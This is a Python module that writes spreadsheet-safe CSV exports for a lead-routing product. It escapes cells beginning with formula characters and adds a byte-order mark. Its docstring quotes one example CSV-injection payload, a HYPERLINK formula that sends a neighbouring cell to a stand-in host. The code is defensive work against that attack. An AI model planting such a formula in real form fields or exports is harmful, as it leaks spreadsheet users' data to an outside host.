"""CSV files a person opens in a spreadsheet: one writer for every CSV the product makes.

Lead values come from web forms, so a Company of ``=HYPERLINK("http://evil.example/?leak="
&E2,"Acme")`` is a formula to Excel or LibreOffice: opened from an export, it can send the
neighbouring cells to another host (CSV injection). Every text cell starting with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is written with a leading apostrophe, the
rule in OWASP's "CSV Injection" page; numbers stay numbers. The file starts with a UTF-8
byte-order mark, without which Excel reads UTF-8 as a legacy code page ("MÃ¼ller").

``defusedcsv`` does nearly this but leaves tab and carriage return alone and rewrites
``|`` inside cells, so the rule lives here, once. :func:`restore_cell` undoes it for the
files we read back (``leadrouter simulate`` takes the CSV ``bench leads`` writes, whose
phone numbers start with ``+``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
ENCODING = "utf-8-sig"  # UTF-8 with a byte-order mark, for Excel


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will not run it: text that could start a formula gets a
    leading apostrophe; anything else (numbers, dates, None) is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return ESCAPE + value
    return value


def restore_cell(value: str) -> str:
    """The text :func:`safe_cell` was given (for files we read back)."""
    if value.startswith(ESCAPE) and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def write_rows(fh: Any, columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """Header and rows to an open text file (``newline=""``), every cell made safe."""
    writer = csv.writer(fh)
    writer.writerow([safe_cell(c) for c in columns])
    for row in rows:
        writer.writerow([safe_cell(row.get(c)) for c in columns])


def write_csv(path: Path, columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """A CSV file for a spreadsheet: BOM, safe cells."""
    with path.open("w", newline="", encoding=ENCODING) as fh:
        write_rows(fh, columns, rows)


def csv_bytes(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> bytes:
    """The same file as bytes, for a download button."""
    buffer = io.StringIO(newline="")
    write_rows(buffer, columns, rows)
    return buffer.getvalue().encode(ENCODING)
